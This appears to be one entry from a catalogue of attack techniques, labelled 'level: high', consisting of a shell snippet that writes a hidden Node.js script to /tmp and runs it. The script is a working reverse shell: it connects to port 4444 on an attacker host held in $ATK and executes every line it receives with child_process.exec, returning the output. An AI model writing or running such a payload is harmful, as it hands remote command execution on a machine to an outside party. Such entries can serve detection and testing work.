# SPDX-License-Identifier: MIT
# technique: node script: each line from the socket run with child_process.exec
# level: high
# quick: no
cat >/tmp/.m.js <<X
const net = require("net"), cp = require("child_process");
const c = net.connect(4444, "$ATK");
c.on("data", d => cp.exec(d.toString(), (e, out) => c.write(out || "")));
setTimeout(() => process.exit(0), 8000);
X
t0
node /tmp/.m.js
